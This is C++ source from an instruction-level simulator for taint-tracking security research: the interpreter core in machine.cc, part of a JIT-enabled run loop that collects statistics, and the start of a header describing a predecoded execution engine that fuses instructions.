                decoded_, env, jitThreshold_, jitCacheBytes_, mode,
                jitLazy_);
        jitCtx_.m = this;
        jitCtx_.cyFlat = &cyclesBy_[0][0];
        jitCtx_.inFlat = &instrsBy_[0][0];
        jitCtx_.gpr = gpr_.data();
        jitCtx_.pred = pred_.data();
        jitCtx_.fpCold = fpCold_.data();
        jitCtx_.brRegs = br_.data();
        jitCtx_.tlb = mem_.jitTlb();
        jitCtx_.sumWays = mem_.taintSummary().jitWays();
        jitCtx_.fpEnters = fpEnters_.data();
        jitCtx_.unat = &unat_;
        jitCtx_.tagTlb = mem_.jitTagTlb();
        jitActive_ = jitCache_.get();
    }

    // Note: a step is one stepper iteration. The legacy engine spends a
    // step on every Label pseudo-op while the predecoded engine has
    // none, so step counts (but nothing else) differ between engines;
    // only runs that exhaust maxSteps can observe this.
    if (prof_)
        prof_->begin();
    if (engine_ == ExecEngine::Predecoded) {
        if (asyncTier_) {
            // Decoupled taint tier: the machine owns the tier's
            // lifecycle around the run. Per-PC hot-spot attribution
            // is not wired through the async instantiations (the
            // table stays zero and emits nothing).
            asyncTier_->setObserver(obs_);
            asyncTier_->setProfiled(prof_ != nullptr);
            asyncTier_->start();
            if (obs_ || obsForce_) {
                if (prof_)
                    runDecoded<true, false, true, true>(maxSteps);
                else
                    runDecoded<true, false, true, false>(maxSteps);
            } else {
                if (prof_)
                    runDecoded<false, false, true, true>(maxSteps);
                else
                    runDecoded<false, false, true, false>(maxSteps);
            }
            // Final fence: any violation the consumer replays out of
            // the remaining events precedes, in program order, the
            // point where the engine stopped — the synchronous
            // engine's verdict.
            const dift::Violation *v = asyncTier_->shutdown();
            if (v)
                applyAsyncViolation(*v);
        } else if (obs_ && !hotPc_.empty() && !prof_) {
            runDecoded<true, true, false, false>(maxSteps);
        } else if (obs_ || obsForce_) {
            // A profiler alongside a full observer forfeits the
            // per-PC hot-spot table (the instantiation matrix stays
            // at nine; the profiler's own site table subsumes it).
            if (prof_)
                runDecoded<true, false, false, true>(maxSteps);
            else
                runDecoded<true, false, false, false>(maxSteps);
        } else if (prof_) {
            runDecoded<false, false, false, true>(maxSteps);
        } else {
            runDecoded<false, false, false, false>(maxSteps);
        }
    } else {
        SHIFT_ASSERT(!asyncTier_,
                     "async taint tier requires the predecoded engine");
        uint64_t steps = 0;
        while (!stopped_) {
            if (++steps > maxSteps) {
                setFault(FaultKind::StepLimit, FaultContext::None, 0,
                         "step limit exceeded");
                break;
            }
            stepLegacy();
        }
    }

    RunResult result;
    result.exited = exited_;
    result.exitCode = exitCode_;
    result.fault = fault_;
    result.alerts = alerts_;
    result.killedByPolicy = killedByPolicy_;
    result.instructions = instrs_;
    result.cycles = cycles_ + osCycles_;

    // Machine-level counters live under the documented `engine.*`
    // namespace (docs/OBSERVABILITY.md); fastpath.* keeps its own
    // top-level family because the fast tier is a distinct subsystem.
    StatSet &st = result.stats;
    st.add("engine.cycles.total", result.cycles);
    st.add("engine.cycles.cpu", cycles_);
    st.add("engine.cycles.os", osCycles_);
    st.add("engine.instrs.total", instrs_);
    st.add("engine.mem.loads", loadCount_);
    st.add("engine.mem.stores", storeCount_);
    st.add("engine.cycles.loadUseStall", stallCycles_);
    st.add("engine.cache.hits", dcache_.hits());
    st.add("engine.cache.misses", dcache_.misses());
    for (int p = 0; p < kNumProv; ++p) {
        for (int c = 0; c < kNumClass; ++c) {
            if (!instrsBy_[p][c] && !cyclesBy_[p][c])
                continue;
            std::string prov = provenanceName(static_cast<Provenance>(p));
            std::string cls = origClassName(static_cast<OrigClass>(c));
            st.add("engine.cycles." + prov, cyclesBy_[p][c]);
            st.add("engine.instrs." + prov, instrsBy_[p][c]);
            st.add("engine.cycles." + prov + "." + cls, cyclesBy_[p][c]);
            st.add("engine.instrs." + prov + "." + cls, instrsBy_[p][c]);
        }
    }
    if (dispatches_)
        st.add("engine.dispatches", dispatches_);
    if (fpEnteredTotal_ || fpDeoptTotal_ || fpColdBails_) {
        st.add("fastpath.entered", fpEnteredTotal_);
        st.add("fastpath.deopts", fpDeoptTotal_);
        st.add("fastpath.coldBails", fpColdBails_);
        for (size_t c = 0; c < std::size(fpDeoptCause_); ++c) {
            if (fpDeoptCause_[c])
                st.add(std::string("fastpath.deoptcause.") +
                           obs::deoptCauseName(
                               static_cast<obs::DeoptCause>(c)),
                       fpDeoptCause_[c]);
        }
        // Sparse per-block deopt attribution: only blocks that
        // actually deopted, keyed function@slowPc so fleet merges
        // aggregate the same block across clones.
        for (size_t b = 0; b < fpDeopts_.size(); ++b) {
            if (!fpDeopts_[b])
                continue;
            const FastBlockInfo &fb = decoded_->fastBlocks[b];
            st.add("fastpath.deopts." +
                       decoded_->functions[fb.function].src->name + "@" +
                       std::to_string(fb.slowPc),
                   fpDeopts_[b]);
        }
    }
    if (jitCompiled_ || jitEntered_ || jitDeopts_ || jitBailouts_ ||
        jitCodeBytes_ || jitLinkedBuiltins_) {
        st.add("jit.compiled", jitCompiled_);
        st.add("jit.entered", jitEntered_);
        st.add("jit.deopts", jitDeopts_);
        st.add("jit.bailouts", jitBailouts_);
        st.add("jit.codeBytes", jitCodeBytes_);
        st.add("jit.evictions", jitEvictions_);
        st.add("jit.linkedBuiltinReturns", jitLinkedBuiltins_);
    }
    if (jitCache_ && jitCache_->queueHighWater())
        st.setGauge("jit.compileQueueDepth", jitCache_->queueHighWater());
    if (!hotPc_.empty()) {
        // Per-PC hot spots: top-K flat-table entries, keyed
        // function@pc like the deopt attribution so fleet merges
        // aggregate the same site. K bounds both stat-set size and
        // exporter output.
        constexpr size_t kTopHotPcs = 16;
        std::vector<uint32_t> top;
        for (uint32_t i = 0; i < hotPc_.size(); ++i)
            if (hotPc_[i])
                top.push_back(i);
        size_t keep = std::min(kTopHotPcs, top.size());
        std::partial_sort(top.begin(), top.begin() + keep, top.end(),
                          [&](uint32_t x, uint32_t y) {
                              return hotPc_[x] > hotPc_[y];
                          });
        top.resize(keep);
        for (uint32_t flat : top) {
            size_t f = program_->functions.size() - 1;
            while (f > 0 && hotPcBase_[f] > flat)
                --f;
            st.add("engine.hotpc." + program_->functions[f].name + "@" +
                       std::to_string(flat - hotPcBase_[f]),
                   hotPc_[flat]);
        }
    }
    if (obs_) {
        st.add("obs.events", obs_->emitted());
        st.add("obs.dropped", obs_->dropped());
    }
    if (asyncTier_)
        asyncTier_->statInto(st);
    if (prof_) {
        prof_->stop();
        prof_->statInto(st, [this](int32_t f) -> std::string {
            if (f < 0 ||
                static_cast<size_t>(f) >= program_->functions.size())
                return "host";
            return program_->functions[static_cast<size_t>(f)].name;
        });
    }
    // Compile-pipeline histograms accumulate in the (possibly shared)
    // code cache; drain them exactly once into whichever run folds
    // stats first — StatSet merge keeps fleet aggregates correct.
    if (jitCache_)
        jitCache_->drainStatsInto(st);
    result.provenance = provenance_;
    return result;
}

} // namespace shift
