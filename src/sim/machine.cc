#include "machine.hh"

#include "support/bitops.hh"
#include "support/logging.hh"

namespace shift
{

namespace
{

/** Stack region layout. */
constexpr uint64_t kStackBase = regionBase(kStackRegion) + 0x10000;
constexpr uint64_t kStackSize = 4ULL << 20;
constexpr uint64_t kHeapGap = 1ULL << 20;
constexpr uint64_t kHeapMax = 1ULL << 32;
constexpr size_t kMaxCallDepth = 1 << 16;

} // namespace

Machine::Machine(const Program &program, CpuFeatures features)
    : program_(&program), features_(features)
{
    layout();
    resolveLabels();
    reset();
}

void
Machine::layout()
{
    // Globals: shared deterministic layout (see computeGlobalLayout).
    GlobalLayout layout = computeGlobalLayout(*program_);
    globalAddr_ = layout.addr;
    mem_.map(kGlobalBase, std::max<uint64_t>(layout.end - kGlobalBase, 16));
    for (const GlobalDef &g : program_->globals) {
        if (!g.init.empty()) {
            MemFault f = mem_.writeBytes(globalAddr_[g.name],
                                         g.init.data(), g.init.size());
            SHIFT_ASSERT(f == MemFault::None);
        }
    }

    heapBreak_ = roundUp(layout.end + kHeapGap, Memory::kPageSize);
    heapLimit_ = heapBreak_ + kHeapMax;

    mem_.map(kStackBase, kStackSize);
}

void
Machine::resolveLabels()
{
    labelPos_.resize(program_->functions.size());
    for (size_t f = 0; f < program_->functions.size(); ++f) {
        const Function &fn = program_->functions[f];
        std::vector<int32_t> &pos = labelPos_[f];
        pos.assign(static_cast<size_t>(fn.nextLabel), -1);
        for (size_t i = 0; i < fn.code.size(); ++i) {
            const Instr &instr = fn.code[i];
            if (instr.op == Opcode::Label) {
                if (instr.imm < 0 ||
                    static_cast<size_t>(instr.imm) >= pos.size()) {
                    pos.resize(static_cast<size_t>(instr.imm) + 1, -1);
                }
                pos[static_cast<size_t>(instr.imm)] =
                    static_cast<int32_t>(i);
            }
        }
    }
}

void
Machine::reset()
{
    gpr_.fill(Gpr{});
    pred_.fill(false);
    pred_[0] = true;
    br_.fill(0);
    unat_ = 0;
    setGpr(reg::sp, kStackBase + kStackSize - 128);
    callStack_.clear();
    auto entry = program_->findFunction(program_->entry);
    if (!entry)
        SHIFT_FATAL("entry function '%s' not found",
                    program_->entry.c_str());
    curFunc_ = *entry;
    pc_ = 0;
}

void
Machine::setGpr(int r, uint64_t val, bool nat)
{
    if (r == reg::zero)
        return; // r0 is hardwired
    gpr_[r].val = val;
    gpr_[r].nat = nat;
}

void
Machine::setPred(int p, bool v)
{
    if (p == 0)
        return; // p0 is hardwired true
    pred_[p] = v;
}

void
Machine::setRetval(uint64_t val, bool nat)
{
    setGpr(reg::rv, val, nat);
}

uint64_t
Machine::globalAddr(const std::string &name) const
{
    auto it = globalAddr_.find(name);
    if (it == globalAddr_.end())
        SHIFT_FATAL("no global named '%s'", name.c_str());
    return it->second;
}

uint64_t
Machine::sbrk(uint64_t bytes)
{
    uint64_t old = heapBreak_;
    uint64_t next = roundUp(heapBreak_ + bytes, 16);
    if (next > heapLimit_)
        SHIFT_FATAL("simulated heap exhausted");
    mem_.map(old, next - old);
    heapBreak_ = next;
    return old;
}

void
Machine::registerBuiltin(const std::string &name, BuiltinFn fn)
{
    builtins_[name] = std::move(fn);
}

void
Machine::raiseAlert(SecurityAlert alert, bool kill)
{
    alert.function = curFunc_;
    alert.pc = pc_;
    alerts_.push_back(std::move(alert));
    if (kill) {
        killedByPolicy_ = true;
        stopped_ = true;
    }
}

void
Machine::requestExit(int64_t code)
{
    exited_ = true;
    exitCode_ = code;
    stopped_ = true;
}

void
Machine::setFault(FaultKind kind, FaultContext ctx, uint64_t addr,
                  const std::string &detail)
{
    Fault fault;
    fault.kind = kind;
    fault.context = ctx;
    fault.function = curFunc_;
    fault.pc = pc_;
    fault.addr = addr;
    fault.detail = detail;

    if (kind == FaultKind::NatConsumption && natFault_) {
        std::optional<SecurityAlert> alert = natFault_(*this, fault);
        if (alert) {
            alert->function = curFunc_;
            alert->pc = pc_;
            alerts_.push_back(std::move(*alert));
            killedByPolicy_ = true;
            stopped_ = true;
            return;
        }
    }
    fault_ = fault;
    stopped_ = true;
}

void
Machine::natConsumptionFault(FaultContext ctx, const std::string &detail)
{
    setFault(FaultKind::NatConsumption, ctx, 0, detail);
}

void
Machine::chargeCycles(const Instr &instr, uint64_t cycles)
{
    cycles_ += cycles;
    ++instrs_;
    int prov = static_cast<int>(instr.prov);
    int cls = static_cast<int>(instr.origClass);
    cyclesBy_[prov][cls] += cycles;
    instrsBy_[prov][cls] += 1;
}

void
Machine::chargeMemAccess(const Instr &instr, uint64_t addr, bool isLoadAcc)
{
    bool hit = dcache_.access(addr);
    uint64_t extra;
    if (isLoadAcc)
        extra = hit ? cycleModel_.loadHit : cycleModel_.loadMiss;
    else
        extra = hit ? 0 : cycleModel_.storeMiss;
    cycles_ += extra;
    cyclesBy_[static_cast<int>(instr.prov)]
             [static_cast<int>(instr.origClass)] += extra;
}

uint64_t
Machine::src2Val(const Instr &instr) const
{
    return instr.useImm ? static_cast<uint64_t>(instr.imm)
                        : gpr_[instr.r3].val;
}

bool
Machine::src2Nat(const Instr &instr) const
{
    return instr.useImm ? false : gpr_[instr.r3].nat;
}

void
Machine::execAlu(const Instr &instr)
{
    uint64_t a = gpr_[instr.r2].val;
    uint64_t b = src2Val(instr);
    bool nat = gpr_[instr.r2].nat || src2Nat(instr);
    uint64_t result = 0;
    uint64_t cost = cycleModel_.alu;

    auto shiftAmount = [](uint64_t v) { return v > 63 ? 64U
        : static_cast<unsigned>(v); };

    switch (instr.op) {
      case Opcode::Add: result = a + b; break;
      case Opcode::Sub: result = a - b; break;
      case Opcode::And: result = a & b; break;
      case Opcode::Andcm: result = a & ~b; break;
      case Opcode::Or: result = a | b; break;
      case Opcode::Xor: result = a ^ b; break;
      case Opcode::Mul:
        result = a * b;
        cost = cycleModel_.mul;
        break;
      case Opcode::Div:
      case Opcode::Mod:
      case Opcode::DivU:
      case Opcode::ModU: {
        cost = cycleModel_.div;
        if (b == 0) {
            if (!nat) {
                setFault(FaultKind::DivByZero, FaultContext::None, 0,
                         "division by zero");
                return;
            }
            result = 0;
        } else if (instr.op == Opcode::DivU) {
            result = a / b;
        } else if (instr.op == Opcode::ModU) {
            result = a % b;
        } else {
            int64_t sa = static_cast<int64_t>(a);
            int64_t sb = static_cast<int64_t>(b);
            if (sa == INT64_MIN && sb == -1) {
                result = instr.op == Opcode::Div
                             ? static_cast<uint64_t>(INT64_MIN)
                             : 0;
            } else if (instr.op == Opcode::Div) {
                result = static_cast<uint64_t>(sa / sb);
            } else {
                result = static_cast<uint64_t>(sa % sb);
            }
        }
        break;
      }
      case Opcode::Shl: {
        unsigned sh = shiftAmount(b);
        result = sh >= 64 ? 0 : (a << sh);
        break;
      }
      case Opcode::Shr: {
        unsigned sh = shiftAmount(b);
        result = sh >= 64 ? 0 : (a >> sh);
        break;
      }
      case Opcode::Sar: {
        unsigned sh = shiftAmount(b);
        int64_t sa = static_cast<int64_t>(a);
        result = static_cast<uint64_t>(sh >= 64 ? (sa < 0 ? -1 : 0)
                                                : (sa >> sh));
        break;
      }
      case Opcode::Sxt:
        result = static_cast<uint64_t>(signExtend(a, instr.size * 8));
        break;
      case Opcode::Zxt:
        result = a & lowMask(instr.size * 8);
        break;
      case Opcode::Extr:
        result = (a >> instr.pos) &
                 lowMask(instr.len ? instr.len : 64);
        break;
      case Opcode::Shladd:
        result = (a << instr.pos) + b;
        break;
      case Opcode::Mov:
        result = a;
        break;
      case Opcode::Movi:
        result = b;
        nat = false;
        break;
      default:
        SHIFT_PANIC("execAlu: not an ALU op: %s", opcodeName(instr.op));
    }

    setGpr(instr.r1, result, nat);
    chargeCycles(instr, cost);
    ++pc_;
}

void
Machine::execCmp(const Instr &instr)
{
    uint64_t a = gpr_[instr.r2].val;
    uint64_t b = src2Val(instr);
    bool nat = gpr_[instr.r2].nat || src2Nat(instr);

    bool taken = false;
    int64_t sa = static_cast<int64_t>(a);
    int64_t sb = static_cast<int64_t>(b);
    switch (instr.rel) {
      case CmpRel::Eq: taken = a == b; break;
      case CmpRel::Ne: taken = a != b; break;
      case CmpRel::Lt: taken = sa < sb; break;
      case CmpRel::Le: taken = sa <= sb; break;
      case CmpRel::Gt: taken = sa > sb; break;
      case CmpRel::Ge: taken = sa >= sb; break;
      case CmpRel::LtU: taken = a < b; break;
      case CmpRel::LeU: taken = a <= b; break;
      case CmpRel::GtU: taken = a > b; break;
      case CmpRel::GeU: taken = a >= b; break;
    }

    if (instr.op == Opcode::Cmp && nat) {
        // Itanium semantics: a NaT operand clears both target
        // predicates so mis-speculated code cannot commit state. This
        // is exactly the behaviour SHIFT must relax for taint-carrying
        // compares (paper section 4.1).
        setPred(instr.p1, false);
        setPred(instr.p2, false);
    } else {
        setPred(instr.p1, taken);
        setPred(instr.p2, !taken);
    }
    chargeCycles(instr, cycleModel_.alu);
    ++pc_;
}

void
Machine::execLd(const Instr &instr)
{
    const Gpr &addrReg = gpr_[instr.r2];
    uint64_t addr = addrReg.val;

    if (instr.spec) {
        // Speculative load: all failures defer into the NaT bit.
        if (addrReg.nat || mem_.probe(addr, instr.size) != MemFault::None) {
            setGpr(instr.r1, 0, true);
            chargeCycles(instr, cycleModel_.loadBase);
            ++pc_;
            return;
        }
    } else if (addrReg.nat) {
        // Instrumentation's own tag-bitmap access inherits the NaT of
        // the ORIGINAL address register; report the policy context of
        // the instruction being instrumented, not of the helper load.
        FaultContext ctx = instr.origClass == OrigClass::ForStore
                               ? FaultContext::StoreAddress
                               : FaultContext::LoadAddress;
        setFault(FaultKind::NatConsumption, ctx, addr,
                 "load through a NaT (tainted) address");
        return;
    }

    uint64_t value = 0;
    bool nat = false;
    MemFault mf;
    if (instr.fill)
        mf = mem_.readFill(addr, value, nat);
    else
        mf = mem_.read(addr, instr.size, value);
    if (mf != MemFault::None) {
        setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                 addr, "load from illegal address");
        return;
    }

    setGpr(instr.r1, value, nat);
    ++loadCount_;
    chargeCycles(instr, cycleModel_.loadBase);
    chargeMemAccess(instr, addr, true);
    ++pc_;
}

void
Machine::execSt(const Instr &instr)
{
    const Gpr &addrReg = gpr_[instr.r1];
    const Gpr &srcReg = gpr_[instr.r2];
    uint64_t addr = addrReg.val;

    if (addrReg.nat) {
        setFault(FaultKind::NatConsumption, FaultContext::StoreAddress,
                 addr, "store through a NaT (tainted) address");
        return;
    }
    if (srcReg.nat && !instr.spill) {
        setFault(FaultKind::NatConsumption, FaultContext::StoreValue,
                 addr, "plain store of a NaT source register");
        return;
    }

    MemFault mf;
    if (instr.spill) {
        mf = mem_.writeSpill(addr, srcReg.val, srcReg.nat);
        if (mf == MemFault::None) {
            // Track the NaT bit in ar.unat as well, as Itanium does.
            unsigned bitIdx = static_cast<unsigned>((addr >> 3) & 63);
            unat_ = insertBit(unat_, bitIdx, srcReg.nat);
        }
    } else {
        mf = mem_.write(addr, instr.size, srcReg.val);
    }
    if (mf != MemFault::None) {
        setFault(FaultKind::IllegalAddress, FaultContext::StoreAddress,
                 addr, "store to illegal address");
        return;
    }

    ++storeCount_;
    chargeCycles(instr, cycleModel_.storeBase);
    chargeMemAccess(instr, addr, false);
    ++pc_;
}

void
Machine::doCall(int funcIndex)
{
    if (callStack_.size() >= kMaxCallDepth) {
        setFault(FaultKind::IllegalAddress, FaultContext::None, 0,
                 "call stack overflow");
        return;
    }
    callStack_.push_back(Frame{curFunc_, pc_ + 1});
    curFunc_ = funcIndex;
    pc_ = 0;
}

void
Machine::doBuiltinOrFault(const Instr &instr)
{
    auto it = builtins_.find(instr.callee);
    if (it == builtins_.end()) {
        setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                 "no function or built-in named '" + instr.callee + "'");
        return;
    }
    chargeCycles(instr, cycleModel_.call);
    uint64_t pcBefore = pc_;
    it->second(*this);
    // A built-in may stop the machine (alert / fault / exit).
    if (!stopped_ && pc_ == pcBefore)
        ++pc_;
}

void
Machine::step()
{
    const Function &fn = program_->functions[curFunc_];
    if (pc_ >= fn.code.size()) {
        setFault(FaultKind::IllegalAddress, FaultContext::None, pc_,
                 "fell off the end of function '" + fn.name + "'");
        return;
    }
    const Instr &instr = fn.code[pc_];

    if (instr.op == Opcode::Label) {
        ++pc_; // zero-cost marker
        return;
    }

    if (trace_)
        trace_(*this, instr);

    // Qualifying predicate: a false predicate nullifies the
    // instruction, but it still occupies an issue slot.
    if (instr.qp != 0 && !pred_[instr.qp]) {
        chargeCycles(instr, cycleModel_.nullified);
        lastLoadDst_ = -1;
        ++pc_;
        return;
    }

    // Load-use stall: consuming a load result in the very next issue
    // slot stalls the in-order pipeline. This is what hoisting a load
    // with control speculation buys back (section 3.3.4).
    // (chk.s only inspects the NaT bit, which is available early.)
    if (lastLoadDst_ >= 0 && instr.op != Opcode::Chk &&
        usesReg(instr, lastLoadDst_)) {
        uint64_t stall = cycleModel_.loadUseStall;
        cycles_ += stall;
        stallCycles_ += stall;
        cyclesBy_[static_cast<int>(instr.prov)]
                 [static_cast<int>(instr.origClass)] += stall;
    }
    lastLoadDst_ = instr.op == Opcode::Ld ? instr.r1 : -1;

    switch (instr.op) {
      case Opcode::Nop:
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
      case Opcode::Div: case Opcode::Mod: case Opcode::DivU:
      case Opcode::ModU: case Opcode::And: case Opcode::Andcm:
      case Opcode::Or: case Opcode::Xor: case Opcode::Shl:
      case Opcode::Shr: case Opcode::Sar: case Opcode::Sxt:
      case Opcode::Zxt: case Opcode::Extr: case Opcode::Shladd:
      case Opcode::Mov: case Opcode::Movi:
        execAlu(instr);
        break;

      case Opcode::Cmp:
        execCmp(instr);
        break;

      case Opcode::CmpNat:
        if (!features_.natAwareCompare) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "cmp.nat requires the natAwareCompare feature");
            return;
        }
        execCmp(instr);
        break;

      case Opcode::Tnat:
        setPred(instr.p1, gpr_[instr.r2].nat);
        setPred(instr.p2, !gpr_[instr.r2].nat);
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Tbit: {
        if (gpr_[instr.r2].nat) {
            setPred(instr.p1, false);
            setPred(instr.p2, false);
        } else {
            bool b = bit(gpr_[instr.r2].val,
                         static_cast<unsigned>(instr.imm));
            setPred(instr.p1, b);
            setPred(instr.p2, !b);
        }
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;
      }

      case Opcode::Ld:
        execLd(instr);
        break;

      case Opcode::St:
        execSt(instr);
        break;

      case Opcode::Chk:
        if (gpr_[instr.r2].nat) {
            int32_t target = labelPos_[curFunc_]
                [static_cast<size_t>(instr.imm)];
            SHIFT_ASSERT(target >= 0, "unresolved label");
            chargeCycles(instr, cycleModel_.branchTaken);
            pc_ = static_cast<uint64_t>(target);
        } else {
            chargeCycles(instr, cycleModel_.branch);
            ++pc_;
        }
        break;

      case Opcode::Br: {
        int32_t target =
            labelPos_[curFunc_][static_cast<size_t>(instr.imm)];
        SHIFT_ASSERT(target >= 0, "unresolved label");
        chargeCycles(instr, cycleModel_.branchTaken);
        pc_ = static_cast<uint64_t>(target);
        break;
      }

      case Opcode::BrCall: {
        auto callee = program_->findFunction(instr.callee);
        if (callee) {
            chargeCycles(instr, cycleModel_.call);
            doCall(*callee);
        } else {
            doBuiltinOrFault(instr);
        }
        break;
      }

      case Opcode::BrCalli: {
        uint64_t target = br_[instr.br];
        auto callee = funcIndexForDesc(target,
                                       program_->functions.size());
        if (!callee) {
            setFault(FaultKind::BadIndirect, FaultContext::ControlFlow,
                     target, "indirect call to a non-function address");
            return;
        }
        chargeCycles(instr, cycleModel_.call);
        doCall(*callee);
        break;
      }

      case Opcode::BrRet:
        chargeCycles(instr, cycleModel_.call);
        if (callStack_.empty()) {
            exited_ = true;
            exitCode_ = static_cast<int64_t>(gpr_[reg::rv].val);
            stopped_ = true;
        } else {
            Frame frame = callStack_.back();
            callStack_.pop_back();
            curFunc_ = frame.function;
            pc_ = frame.returnPc;
        }
        break;

      case Opcode::MovToBr:
        if (gpr_[instr.r2].nat) {
            setFault(FaultKind::NatConsumption,
                     FaultContext::ControlFlow, gpr_[instr.r2].val,
                     "NaT (tainted) value moved into a branch register");
            return;
        }
        br_[instr.br] = gpr_[instr.r2].val;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::MovFromBr:
        setGpr(instr.r1, br_[instr.br], false);
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::MovToUnat:
        if (gpr_[instr.r2].nat) {
            setFault(FaultKind::NatConsumption,
                     FaultContext::AppRegister, 0,
                     "NaT value moved into ar.unat");
            return;
        }
        unat_ = gpr_[instr.r2].val;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::MovFromUnat:
        setGpr(instr.r1, unat_, false);
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Setnat:
        if (!features_.natSetClear) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "setnat requires the natSetClear feature");
            return;
        }
        gpr_[instr.r1].nat = instr.r1 != reg::zero;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Clrnat:
        if (!features_.natSetClear) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "clrnat requires the natSetClear feature");
            return;
        }
        gpr_[instr.r1].nat = false;
        chargeCycles(instr, cycleModel_.alu);
        ++pc_;
        break;

      case Opcode::Syscall:
        chargeCycles(instr, cycleModel_.syscallBase);
        if (!syscall_) {
            setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                     "no system-call handler installed");
            return;
        }
        syscall_(*this, instr.imm);
        if (!stopped_)
            ++pc_;
        break;

      case Opcode::Halt:
        exited_ = true;
        exitCode_ = static_cast<int64_t>(gpr_[reg::rv].val);
        stopped_ = true;
        break;

      case Opcode::Label:
        break; // handled above
    }
}

RunResult
Machine::run(uint64_t maxSteps)
{
    SHIFT_ASSERT(!stopped_, "Machine::run() may only be called once");

    uint64_t steps = 0;
    while (!stopped_) {
        if (++steps > maxSteps) {
            setFault(FaultKind::StepLimit, FaultContext::None, 0,
                     "step limit exceeded");
            break;
        }
        step();
    }

    RunResult result;
    result.exited = exited_;
    result.exitCode = exitCode_;
    result.fault = fault_;
    result.alerts = alerts_;
    result.killedByPolicy = killedByPolicy_;
    result.instructions = instrs_;
    result.cycles = cycles_ + osCycles_;

    StatSet &st = result.stats;
    st.add("cycles.total", result.cycles);
    st.add("cycles.cpu", cycles_);
    st.add("cycles.os", osCycles_);
    st.add("instrs.total", instrs_);
    st.add("mem.loads", loadCount_);
    st.add("mem.stores", storeCount_);
    st.add("cycles.loadUseStall", stallCycles_);
    st.add("cache.hits", dcache_.hits());
    st.add("cache.misses", dcache_.misses());
    for (int p = 0; p < kNumProv; ++p) {
        for (int c = 0; c < kNumClass; ++c) {
            if (!instrsBy_[p][c] && !cyclesBy_[p][c])
                continue;
            std::string prov = provenanceName(static_cast<Provenance>(p));
            std::string cls = origClassName(static_cast<OrigClass>(c));
            st.add("cycles." + prov, cyclesBy_[p][c]);
            st.add("instrs." + prov, instrsBy_[p][c]);
            st.add("cycles." + prov + "." + cls, cyclesBy_[p][c]);
            st.add("instrs." + prov + "." + cls, instrsBy_[p][c]);
        }
    }
    return result;
}

} // namespace shift
