/**
 * @file
 * The predecoded execution engine's one-time decode/link pass.
 *
 * The legacy stepper pays per-dynamic-instruction costs that are all
 * statically resolvable: Label pseudo-ops burn a full step() iteration,
 * Br/Chk targets are looked up through a label-position table, BrCall
 * callees are resolved by a linear string scan over the function list
 * (falling back to a string-keyed builtin map), and the load-use stall
 * check walks the instruction's operand fields. decodeProgram() runs
 * once in the Machine constructor and compiles each Function into a
 * dense DecodedFunction stream with all of that folded into per-
 * instruction static metadata:
 *
 *  - Label markers are stripped; every surviving instruction remembers
 *    its original index (`origIndex`) so faults, alerts and
 *    Machine::currentPc() still report architectural (original)
 *    program counters, bit-identical to the legacy stepper.
 *  - Br/Chk label ids are rewritten to dense instruction indices.
 *  - BrCall callees become either a user-function index or a builtin
 *    slot id; the Machine binds slot ids to registered builtin
 *    functions, so no string is hashed on any dynamic call.
 *  - The set of GRs each instruction reads is precomputed as a 64-bit
 *    mask, making the load-use stall check one shift and AND.
 *  - The instrumenter's fixed taint idioms (the figure-4 tag-address
 *    fold, the 4/9-instruction bitmap checks, the spill/reload NaT
 *    purge and the bitmap RMW update) are recognized on the dense
 *    stream and fused into single macro micro-ops (Opcode::Fused*).
 *    A fused handler replays its constituents' exact architectural
 *    semantics — register writes, cycle/stat charges, stalls, cache
 *    accesses and fault points — while paying the fetch/dispatch
 *    front end once, so simulated counts stay bit-identical to the
 *    legacy stepper and only host time drops. A group is only fused
 *    when no branch targets its interior and its constituents are
 *    contiguous in the original stream (so a fault inside the group
 *    can name constituent k's architectural pc). Per-instruction
 *    trace hooks need the unfused stream; Machine::setTraceHook
 *    re-decodes with `fuse` off.
 *
 * A branch to an unresolved label is a malformed program; the pass
 * rejects it here, at construction time, with a BadProgram fault that
 * names the offending function (see docs/EXECUTION-ENGINE.md).
 */

#ifndef SHIFT_SIM_DECODED_HH
#define SHIFT_SIM_DECODED_HH

#include <cstdint>
#include <string>
#include <vector>

#include "isa/instruction.hh"
#include "isa/program.hh"
#include "sim/faults.hh"

namespace shift
{

/** Which stepper the Machine runs. */
enum class ExecEngine : uint8_t
{
    Predecoded, ///< dense label-free stream with link-time resolution
    Legacy,     ///< per-step label/string resolution (reference engine)
};

/**
 * One instruction of the dense stream: a compact micro-op holding only
 * the fields the interpreter reads dynamically, plus linked metadata.
 *
 * This is deliberately NOT the architectural Instr. Instr is 80 bytes
 * (it carries a std::string callee for the assembler's benefit), so an
 * embedded copy put under one micro-op per cache line in front of the
 * fetch path. The micro-op packs into 48 bytes; anything cold — the
 * callee name, provenance enums, disassembly — is recovered through
 * `origIndex` into DecodedFunction::src->code, which slow paths
 * (faults, trace hooks) are free to touch.
 *
 * BrCall's two possible callees share one field: `callee` >= 0 is a
 * user-function index; `callee` < 0 names builtin slot -1 - callee
 * (the decode pass guarantees one of the two for every BrCall).
 */
struct DecodedInstr
{
    uint64_t useMask = 0;  ///< GRs read (bit r); 0 for chk.s, which
                           ///< the load-use stall check exempts
    int64_t imm = 0;       ///< immediate / syscall number / Tbit index
    int32_t target = -1;   ///< dense branch target for Br/Chk
    int32_t callee = -1;   ///< BrCall: function index or ~slot (above)
    int32_t origIndex = 0; ///< index within Function::code
    uint16_t r1 = 0;       ///< destination GR
    uint16_t r2 = 0;       ///< source GR 1
    uint16_t r3 = 0;       ///< source GR 2 (when !useImm)
    Opcode op = Opcode::Nop;
    uint8_t qp = 0;          ///< qualifying predicate
